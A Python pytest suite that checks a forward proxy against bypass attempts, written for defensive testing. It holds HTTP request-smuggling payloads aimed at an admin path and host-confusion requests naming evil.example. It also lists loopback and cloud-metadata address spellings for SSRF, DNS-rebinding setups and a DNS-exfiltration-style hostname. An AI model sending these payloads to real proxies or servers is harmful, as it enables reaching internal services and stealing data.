"""Ways past a forward proxy. None of them may reach a server undecided.

The servers outside write down every request that reaches them; what they have seen is what counts,
not what the proxy says. The naive proxy shows that the attacks are attacks.
"""

from __future__ import annotations

import asyncio
import ssl
from base64 import b64encode
from pathlib import Path

import aiohttp
import pytest
from egress_world import World, world
from naive_proxy import naive_proxy

HOST = "api.shop.example"
ADMIN = "/admin/users"


def authorization(here: World) -> str:
    shown = b64encode(f"inventory-bot:{here.key}".encode()).decode()
    return f"Proxy-Authorization: Basic {shown}\r\n"


async def told(port: int, data: bytes) -> bytes:
    """The status that a proxy answers these very bytes with; nothing where it closes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    try:
        async with asyncio.timeout(15):
            return (await reader.readline()).split()[1]
    except (ConnectionError, IndexError):
        return b""
    finally:
        writer.close()


async def gets_through(port: int, written: str, seen: list[str], seconds: float) -> bool:
    """Whether a server sees anything of a request within that time."""
    before = len(seen)
    sending = asyncio.create_task(raw(port, bytes_of(written), seconds))
    while len(seen) == before and not sending.done():
        await asyncio.sleep(0.01)
    sending.cancel()
    await asyncio.gather(sending, return_exceptions=True)
    return len(seen) > before


async def raw(port: int, data: bytes, seconds: float = 1.0) -> bytes:
    """What a proxy says to these very bytes, until it closes or is silent."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    answer = bytearray()
    try:
        async with asyncio.timeout(seconds):
            while piece := await reader.read(65_536):
                answer += piece
    except (TimeoutError, ConnectionError):
        pass
    finally:
        writer.close()
    return bytes(answer)


def port_of(here: World) -> int:
    return int(here.proxy.rpartition(":")[2])


SMUGGLED = f"GET {ADMIN} HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
"""A request that nobody may send, hidden behind one that may pass."""


def smuggling(host: str, line: str) -> dict[str, str]:
    """Requests with something hidden in them; ``{auth}`` stands for the credential."""
    url = f"http://{host}/orders"
    head = f"POST {url} HTTP/1.1\r\nHost: {host}\r\n{line}Content-Type: text/plain\r\n"
    chunked = "Transfer-Encoding: chunked\r\n"
    length = len(SMUGGLED) + 5
    return {
        "CL.TE": f"{head}Content-Length: {length}\r\n{chunked}\r\n0\r\n\r\n{SMUGGLED}",
        "TE.CL": f"{head}{chunked}Content-Length: 4\r\n\r\n5c\r\n{SMUGGLED}\r\n0\r\n\r\n",
        "TE.TE": f"{head}{chunked}Transfer-Encoding: x\r\n\r\n0\r\n\r\n{SMUGGLED}",
        "TE obscured": f"{head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
        "TE blank": f"{head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
        "TE folded": f"{head}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
        "CL twice": f"{head}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{SMUGGLED}",
        "CL list": f"{head}Content-Length: 0, {length}\r\n\r\n{SMUGGLED}",
        "CL signed": f"{head}Content-Length: +0\r\n\r\n{SMUGGLED}",
        "CL in hex": f"{head}Content-Length: 0x0\r\n\r\n{SMUGGLED}",
        "chunk size": f"{head}{chunked}\r\n0x0\r\n\r\n{SMUGGLED}",
        "chunk overflow": f"{head}{chunked}\r\n10000000000000000\r\n\r\n{SMUGGLED}",
        "bare LF": f"{head}X: y\n\nGET http://{host}{ADMIN} HTTP/1.1\n\n\r\n\r\n",
        "header injected": f"{head}X: a\r\n\r\n{SMUGGLED}",
        "CR in value": f"{head}X: a\rContent-Length: 0\r\n\r\n{SMUGGLED}",
        "NUL in value": f"{head}X: a\0b\r\nContent-Length: 0\r\n\r\n",
        "pipelined": f"{head}Content-Length: 0\r\n\r\nGET http://{host}{ADMIN} HTTP/1.1\r\n"
        f"Host: {host}\r\n{line}\r\n",
        "upgrade to h2c": f"{head}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        f"HTTP2-Settings: AAMAAABk\r\nContent-Length: 0\r\n\r\n{SMUGGLED}",
        "upgrade to websocket": f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{line}"
        f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n{SMUGGLED}",
        "connection drops host": f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{line}"
        f"Connection: close, Host\r\n\r\n",
        "method override": f"{head}X-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\n\r\n",
        "rewritten path": f"{head}X-Original-URL: {ADMIN}\r\nContent-Length: 0\r\n\r\n",
    }


def confusing(host: str, line: str) -> dict[str, str]:
    """Requests that say in two ways where they go, or in a way that servers read differently."""

    def get(url: str, at: str = host, version: str = " HTTP/1.1") -> str:
        return f"GET {url}{version}\r\nHost: {at}\r\n{line}\r\n"

    return {
        "absolute form against Host": get(f"http://{host}/stock", at="evil.example"),
        "two hosts": f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n"
        f"{line}\r\n",
        "origin form": get("/stock"),
        "asterisk": get("*"),
        "user in URL": get(f"http://{host}@evil.example/stock"),
        "backslash": get(f"http://{host}\\@evil.example/stock"),
        "backslash in path": get(f"http://{host}/stock\\..\\admin"),
        "encoded slash": get(f"http://{host}/%2fadmin/users"),
        "dot segments": get(f"http://{host}/stock/../admin/users"),
        "encoded dots": get(f"http://{host}/stock/%2e%2e/admin/users"),
        "double encoding": get(f"http://{host}/%252e%252e/admin"),
        "two slashes": get(f"http://{host}//admin/users"),
        "path parameter": get(f"http://{host}/stock;/../admin/users"),
        "encoded null": get(f"http://{host}/admin%00"),
        "fragment": get(f"http://{host}/stock#/../admin"),
        "control character": get(f"http://{host}/sto\x01ck"),
        "space": get(f"http://{host}/stock /admin"),
        "tab": get(f"http://{host}/stock\t/admin"),
        "HTTP/0.9": f"GET http://{host}/stock\r\n",
        "HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "HTTP/3.0": get(f"http://{host}/stock", version=" HTTP/3.0"),
        "lower case method": f"get http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}\r\n",
        "TRACE": f"TRACE http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}\r\n",
        "unknown method": f"BREW http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}\r\n",
        "gopher": get(f"gopher://{host}/stock"),
        "https without CONNECT": get(f"https://{host}/stock"),
        "header name with blank": f"GET http://{host}/stock HTTP/1.1\r\nHost : evil.example\r\n"
        f"{line}\r\n",
        "underscore": get(f"http://{host}/stock").replace("\r\nHost", "\r\nX_Y: z\r\nHost"),
        "body of a GET": f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}"
        f"Content-Type: text/plain\r\nContent-Length: 3\r\n\r\nabc",
        "compressed": f"POST http://{host}/orders HTTP/1.1\r\nHost: {host}\r\n{line}"
        "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"
        "Content-Length: 2\r\n\r\n{}",
        "oversized head": get(f"http://{host}/stock").replace(
            "\r\n\r\n", f"\r\nX: {'y' * 40_000}\r\n\r\n"
        ),
        "oversized target": get(f"http://{host}/{'x' * 20_000}"),
        "oversized body": f"POST http://{host}/orders HTTP/1.1\r\nHost: {host}\r\n{line}"
        f"Content-Type: text/plain\r\nContent-Length: 70000\r\n\r\n{'x' * 70_000}",
        "many headers": get(f"http://{host}/stock").replace(
            "\r\n\r\n", "".join(f"\r\nX-{n}: y" for n in range(5000)) + "\r\n\r\n"
        ),
    }


def bytes_of(text: str) -> bytes:
    return text.encode("latin-1")


def _decided(here: World) -> list[str]:
    """What the log says was let through, as the servers would see it."""
    return [str(each.tool) for each in here.records("decision") if each.granted]


async def test_nothing_hidden_behind_a_request_reaches_a_server(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        host = f"{HOST}:{here.outside.plain}"
        for name, written in smuggling(host, authorization(here)).items():
            await raw(port_of(here), bytes_of(written), 0.3)
            seen = here.outside.seen
            assert not any("admin" in each or "DELETE" in each for each in seen), name
        assert 0 < len(here.outside.seen) <= len(_decided(here))
        assert not any("admin" in each for each in _decided(here))


async def test_what_says_two_things_goes_nowhere(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        host = f"{HOST}:{here.outside.plain}"
        for name, written in confusing(host, authorization(here)).items():
            assert await told(port_of(here), bytes_of(written)) != b"200", name
            assert here.outside.seen == [], name
        assert _decided(here) == []


async def test_the_same_inside_of_tls(tmp_path: Path) -> None:
    async with world(tmp_path, inspect='"*"') as here:
        host = f"{HOST}:{here.outside.secure}"
        context = ssl.create_default_context(cafile=str(here.ca))
        attacks = {**smuggling(host, ""), **confusing(host, "")}
        attacks["absolute form"] = f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n\r\n"
        attacks["other host"] = "GET /stock HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        attacks["no host"] = "GET /stock HTTP/1.1\r\n\r\n"
        attacks["CONNECT"] = f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"
        for name, written in attacks.items():
            origin_form = written.replace(f"http://{host}", "")
            for each in {written, origin_form} if name not in ("origin form",) else {written}:
                if "two ways" in name:
                    continue
                await inside(here, host, bytes_of(each), context)
                seen = here.outside.seen
                assert not any("admin" in one or "DELETE" in one for one in seen), name
        assert 0 < len(here.outside.seen) <= len(_decided(here))
        assert not any("admin" in each or "evil" in each for each in _decided(here))


async def inside(here: World, host: str, data: bytes, context: ssl.SSLContext) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port_of(here))
    writer.write(f"CONNECT {host} HTTP/1.1\r\n{authorization(here)}\r\n".encode())
    assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
    await writer.start_tls(context, server_hostname=HOST)
    writer.write(data)
    try:
        async with asyncio.timeout(0.2):
            while await reader.read(65_536):
                pass
    except (TimeoutError, ConnectionError, ssl.SSLError):
        pass
    finally:
        writer.close()


LOOPBACK = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0x7f.1",
    "017700000001", "0177.0.0.1", "0177.1", "127.0.0.1.", "127.000.000.001", "127.0.0.01",
    "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::1%lo]", "[::1%25lo]", "0.0.0.0", "0", "[::]",
    "localhost", "LOCALHOST", "localhost.", "api.localhost", "①②⑦.0.0.1", "127。0。0。1",
    "127.0.0.1%2f.example", "127.0.0.1%00.example", "127%2e0%2e0%2e1", "169.254.169.254",
    "2852039166", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "metadata.google.internal",
    "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "[fe80::1]", "[fc00::1]", "224.0.0.1",
    "255.255.255.255", "127.0.0.1.nip.io", "xn--loclhost-8za",
]  # fmt: skip


async def test_addresses_inside_are_refused_in_every_spelling(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        local = ("localhost", "localhost.", "api.localhost", "127.0.0.1.nip.io")
        here.names = {
            **{each.rstrip("."): [["127.0.0.1"]] for each in local},
            "metadata.google.internal": [["169.254.169.254"]],
        }
        for spelling in LOOPBACK:
            for port in (here.outside.plain, here.outside.secure):
                host = f"{spelling}:{port}".encode().decode("latin-1")
                line = authorization(here)
                get = f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}\r\n"
                for written in (f"CONNECT {host} HTTP/1.1\r\n{line}\r\n", get):
                    status = await told(port_of(here), bytes_of(written))
                    assert status in (b"400", b"403", b"502"), (spelling, written)
        assert here.outside.connections == 0


async def test_what_is_named_can_be_reached_and_nothing_beside_it(tmp_path: Path) -> None:
    async with world(tmp_path, private='"127.0.0.0/30"') as here:
        here.names = {"near.example": [["127.0.0.1"]], "far.example": [["127.0.0.9"]]}
        for host, status in (
            ("127.0.0.1", b"200"),
            ("near.example", b"200"),
            ("far.example", b"403"),
        ):
            place = f"{host}:{here.outside.plain}"
            line = f"Host: {place}\r\n{authorization(here)}\r\n"
            answer = await raw(
                port_of(here), f"GET http://{place}/stock HTTP/1.1\r\n{line}".encode()
            )
            assert answer.split()[1] == status


async def test_an_answer_of_the_name_service_that_changes_changes_nothing(tmp_path: Path) -> None:
    """Rebinding: public when it is looked at, inside when it is connected to."""
    async with world(tmp_path, private="") as here:
        here.names = {
            "rebind.example": [["192.0.2.1", "127.0.0.1"], ["127.0.0.1"]],
            "mixed.example": [["93.184.216.34", "127.0.0.1"]],
            "mapped.example": [["::ffff:127.0.0.1"]],
        }
        for host in here.names:
            for port in (here.outside.plain, here.outside.secure):
                connect = f"CONNECT {host}:{port} HTTP/1.1\r\n{authorization(here)}\r\n"
                assert await told(port_of(here), connect.encode()) == b"403"
                get = f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n"
                line = f"{get}{authorization(here)}\r\n"
                assert await told(port_of(here), line.encode()) == b"403"
        assert here.outside.connections == 0
        assert set(await here.statuses(12)) == {"not-run"}


async def test_a_name_is_looked_up_once_for_a_connection(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        here.names = {HOST: [["127.0.0.1"], ["10.9.9.9"]]}
        host = f"{HOST}:{here.outside.plain}"
        get = f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{authorization(here)}\r\n"
        assert await told(port_of(here), get.encode()) == b"200"
        assert here.lookups == [HOST]


async def test_nothing_is_looked_up_for_what_is_refused(tmp_path: Path) -> None:
    """A lookup is a message to whoever runs the name service of that domain."""
    async with world(tmp_path) as here:
        host = "c2VjcmV0.evil.example"
        policy = here.server.parts.policies.current
        assert policy is not None
        for written in ("CONNECT evil.example:443", f"DELETE http://{host}/x"):
            line = f"{written} HTTP/1.1\r\n{authorization(here)}\r\n"
            await raw(port_of(here), line.encode(), 0.5)
        assert here.lookups == []


async def test_a_redirect_to_an_address_inside_leads_nowhere(tmp_path: Path) -> None:
    async with world(tmp_path) as here, aiohttp.ClientSession() as client:
        for to in (
            "http://127.0.0.1:{0}/stock",
            "http://[::ffff:127.0.0.1]:{0}/",
            "http://0x7f.1/",
        ):
            target = to.format(here.outside.plain)
            url = f"http://{HOST}:{here.outside.plain}/moved?to={target}"
            async with client.get(url, proxy=here.url, allow_redirects=True) as answer:
                assert answer.status in (400, 403)
        assert [each for each in here.outside.seen if "/moved" not in each] == []


async def test_tls_for_another_host_goes_nowhere(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        context = ssl.create_default_context(cafile=str(here.outside.roots))
        context.check_hostname = False
        for name in ("other.shop.example", "evil.example", None):
            assert not await _tls(here, HOST, name, context)
        assert here.outside.seen == []
        assert await here.statuses(3) == ["not-run"] * 3
        assert await _tls(here, HOST, HOST, context)


async def test_tls_for_another_host_is_not_opened_either(tmp_path: Path) -> None:
    async with world(tmp_path, inspect='"*"') as here:
        context = ssl.create_default_context(cafile=str(here.ca))
        context.check_hostname = False
        for name in ("other.shop.example", "evil.example", None):
            assert not await _tls(here, HOST, name, context)
        assert await _tls(here, HOST, HOST, context)
        assert here.outside.seen == []


async def _tls(here: World, host: str, name: str | None, context: ssl.SSLContext) -> bool:
    """Whether TLS comes about."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port_of(here))
    place = f"{host}:{here.outside.secure}"
    writer.write(f"CONNECT {place} HTTP/1.1\r\n{authorization(here)}\r\n".encode())
    await reader.readuntil(b"\r\n\r\n")
    try:
        async with asyncio.timeout(10):
            await writer.start_tls(context, server_hostname=name or "")
    except (OSError, ssl.SSLError, TimeoutError, ValueError):
        return False
    finally:
        writer.close()
    return True


@pytest.mark.parametrize(
    "first",
    [
        b"SSH-2.0-OpenSSH_9.0\r\n",
        b"\x16\x03\x01\x00\x05hello",
        b"\x05\x01\x00",
    ],
)
async def test_a_tunnel_carries_tls_and_nothing_else(first: bytes, tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        place = f"{HOST}:{here.outside.plain}"
        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(here))
        writer.write(f"CONNECT {place} HTTP/1.1\r\n{authorization(here)}\r\n".encode())
        await reader.readuntil(b"\r\n\r\n")
        writer.write(first)
        try:
            async with asyncio.timeout(10):
                assert (await reader.read()).split()[1:2] in ([], [b"400"])
        except ConnectionError:
            pass
        finally:
            writer.close()
        assert here.outside.seen == []


async def _dribbled(port: int, start: bytes) -> None:
    """Send a byte now and then, until the proxy has had enough."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)

    async def send() -> None:
        writer.write(start)
        while start:
            await asyncio.sleep(0.1)
            writer.write(b"x")

    sending = asyncio.create_task(send())
    try:
        await reader.read()
    except ConnectionError:
        pass
    finally:
        sending.cancel()
        writer.close()


async def test_a_server_that_speaks_first_is_not_heard(tmp_path: Path) -> None:
    """SMTP, SSH, FTP and others: no TLS, so nobody would see what passes."""

    async def banner(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 mail.example ESMTP\r\n")
        await reader.read()
        writer.close()

    async with world(tmp_path) as here:
        server = await asyncio.start_server(banner, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        connect = f"CONNECT {HOST}:{port} HTTP/1.1\r\n{authorization(here)}\r\n"
        assert b"220" not in await raw(port_of(here), connect.encode(), 3)
        assert await here.statuses(1) == ["not-run"]
        server.close()


@pytest.mark.parametrize("inspect", ["", '"*"'])
async def test_http_without_tls_inside_of_connect_is_decided_too(
    inspect: str, tmp_path: Path
) -> None:
    async with world(tmp_path, inspect=inspect) as here:
        host = f"{HOST}:{here.outside.plain}"
        wanted = {
            f"GET /stock HTTP/1.1\r\nHost: {host}\r\n\r\n": b"200",
            f"GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n": b"403",
            "GET /stock HTTP/1.1\r\nHost: evil.example\r\n\r\n": b"421",
            f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n\r\n": b"400",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n": b"400",
            f"GET /chat HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\n"
            "Upgrade: websocket\r\n\r\n": b"400",
        }
        for written, status in wanted.items():
            reader, writer = await asyncio.open_connection("127.0.0.1", port_of(here))
            writer.write(f"CONNECT {host} HTTP/1.1\r\n{authorization(here)}\r\n".encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.write(written.encode())
            async with asyncio.timeout(10):
                assert (await reader.readline()).split()[1] == status, written
            writer.close()
        assert here.outside.seen == [f"GET {host}/stock"]


async def test_slow_and_endless_heads_are_cut_off(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        starts = (b"", b"C", b"P", b"CONNECT a", b"GET http://a.example/ HTTP/1.1\r\n")
        async with asyncio.timeout(15):
            await asyncio.gather(*(_dribbled(port_of(here), start) for start in starts))
        endless = b"CONNECT a.example:443 HTTP/1.1\r\n" + b"X: y\r\n" * 10_000
        assert await told(port_of(here), endless) == b"431"


async def test_nobody_without_a_key_gets_anything(tmp_path: Path) -> None:
    async with world(tmp_path) as here:
        bad = [
            "",
            "Proxy-Authorization: Basic !!!\r\n",
            f"Proxy-Authorization: Basic {b64encode(b'inventory-bot:remit_x').decode()}\r\n",
            f"Authorization: Bearer {here.key}\r\n",
            authorization(here) * 2,
        ]
        host = f"{HOST}:{here.outside.plain}"
        for line in bad:
            get = f"GET http://{host}/stock HTTP/1.1\r\nHost: {host}\r\n{line}\r\n"
            connect = f"CONNECT {host} HTTP/1.1\r\n{line}\r\n"
            for written in (get, connect):
                assert await told(port_of(here), written.encode()) in (b"407", b"400")
        assert here.outside.connections == 0
        assert here.records("decision") == []


async def test_the_credential_goes_no_further(tmp_path: Path) -> None:
    async with world(tmp_path) as here, aiohttp.ClientSession() as client:
        url = f"http://{HOST}:{here.outside.plain}/stock"
        own = {"Authorization": "Bearer of-the-shop", "X-Remit-Session": "x", "Cookie": "a=b"}
        async with client.get(url, proxy=here.url, headers=own) as answer:
            assert answer.status == 200
        told = here.outside.headers[0]
        assert told["authorization"] == "Bearer of-the-shop"
        assert told["cookie"] == "a=b"
        assert "proxy-authorization" not in told
        assert "x-remit-session" not in told


async def test_a_naive_proxy_lets_these_through(tmp_path: Path) -> None:
    """The same bytes, at a proxy without any of the checks: most of them reach the servers."""
    async with (
        world(tmp_path) as here,
        naive_proxy(here.outside.plain, here.outside.secure) as port,
    ):
        through = set()
        surely = {"pipelined", "absolute form against Host", "header injected"}
        for name, written in {**smuggling(HOST, ""), **confusing(HOST, "")}.items():
            if await gets_through(port, written, here.outside.seen, 5 if name in surely else 0.2):
                through.add(name)
        assert surely <= through
        assert len(through) >= 10
        reached = 0
        for spelling in LOOPBACK:
            before = here.outside.connections
            connect = f"CONNECT {spelling}:443 HTTP/1.1\r\n\r\n".encode()
            opened = await told(port, connect) == b"200"
            reached += opened and here.outside.connections > before
        assert reached > len(LOOPBACK) // 2


async def test_a_naive_proxy_carries_tls_for_anybody(tmp_path: Path) -> None:
    async with (
        world(tmp_path) as here,
        naive_proxy(here.outside.plain, here.outside.secure) as port,
    ):
        context = ssl.create_default_context(cafile=str(here.outside.roots))
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(f"CONNECT {HOST}:443 HTTP/1.1\r\n\r\n".encode())
        await reader.readuntil(b"\r\n\r\n")
        await writer.start_tls(context, server_hostname="other.shop.example")
        writer.write(b"GET /admin HTTP/1.1\r\nHost: other.shop.example\r\n\r\n")
        async with asyncio.timeout(10):
            assert b" 200 " in await reader.readline()
        writer.close()


async def test_without_the_look_at_addresses_the_same_names_lead_inside(tmp_path: Path) -> None:
    """What refuses changing answers, mapped addresses and redirects is that look, nothing else."""
    async with world(tmp_path, private='"0.0.0.0/0", "::/0"') as here:
        here.names = {
            "rebind.example": [["127.0.0.1"]],
            "mapped.example": [["::ffff:127.0.0.1"]],
        }
        for host in (*here.names, "127.0.0.1"):
            place = f"{host}:{here.outside.plain}"
            get = f"GET http://{place}/stock HTTP/1.1\r\nHost: {place}\r\n{authorization(here)}\r\n"
            assert await told(port_of(here), get.encode()) == b"200"
        assert len(here.outside.seen) == 3
